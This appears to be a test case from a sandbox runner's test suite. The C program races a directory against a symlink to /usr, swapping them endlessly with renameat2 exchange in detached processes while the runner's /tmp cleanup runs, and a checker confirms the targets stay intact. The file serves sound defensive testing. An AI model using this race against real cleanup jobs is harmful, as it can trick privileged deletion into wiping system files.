/* attack: a directory becomes a link and back, thousands of times, while the runner wipes
 * expect: AC
 * tests: 3
 * second: second/targets_intact.py
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    mkdir("/tmp/a", 0777);
    mkdir("/tmp/a/b", 0777);
    if (symlink("/usr", "/tmp/b") < 0) return 1;
    for (int i = 0; i < 4; i++)
        if (fork() == 0) {
            setsid();
            for (;;) syscall(SYS_renameat2, AT_FDCWD, "/tmp/a", AT_FDCWD, "/tmp/b", 2 /* exchange */);
        }
    usleep(30000);
    puts("held");
}
